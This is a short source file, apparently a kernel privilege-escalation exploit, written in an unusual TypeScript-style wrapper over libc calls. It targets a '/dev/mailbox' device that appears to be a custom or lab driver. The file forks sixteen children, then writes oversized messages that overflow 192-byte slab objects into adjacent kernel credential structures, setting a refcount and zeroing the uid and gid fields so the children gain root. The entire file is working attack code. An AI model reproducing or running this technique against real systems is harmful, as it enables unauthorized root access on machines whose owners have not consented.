// SPDX-License-Identifier: GPL-2.0-or-later
/**
 * Writes letters that are too long, until what lies behind a box is who a child is: with
 * `kasan=off` the child becomes root, since boxes and credentials lie in the same slabs.
 */
import { calloc, close, execv, fork, geteuid, O_RDWR, open } from "libc";
import { perror, pipe, printf, read, store32, wait, WEXITSTATUS, write } from "libc";

const CHILDREN = 16;
/** What fits behind the length of a box of 192 bytes. */
const LETTER_SIZE = 184;
/** A reference count, and uid, gid, suid, sgid, euid, egid, fsuid, fsgid. */
const IDENTITY_SIZE = 8 + 8 * 4;

/** Waits for the end of the letters, and looks who it is. */
function look(fds: readonly number[]): number {
  close(fds[1]);
  read(fds[0], calloc(1, 1), 1);
  if (geteuid() !== 0) return 1;
  execv("/usr/bin/id", ["id"]);
  return 1;
}

export function main(): number {
  const fds = [0, 0];
  if (pipe(fds) < 0) return 1;
  const boxes: number[] = [];
  for (let n = 0; n < CHILDREN; n++) {
    const box = open("/dev/mailbox", O_RDWR);
    if (box < 0) {
      perror("/dev/mailbox");
      return 1;
    }
    boxes.push(box);
    if (fork(look, fds) < 0) perror("fork");
  }

  const letter = calloc(1, LETTER_SIZE + IDENTITY_SIZE);
  store32(letter + LETTER_SIZE, 1);
  for (const box of boxes) write(box, letter, LETTER_SIZE + IDENTITY_SIZE);
  close(fds[0]);
  close(fds[1]);

  let roots = 0;
  const status = [0];
  for (let n = 0; n < CHILDREN; n++) {
    wait(status);
    if (WEXITSTATUS(status[0]) === 0) roots++;
  }
  printf("%d of %d children became root\n", roots, CHILDREN);
  return roots > 0 ? 0 : 1;
}
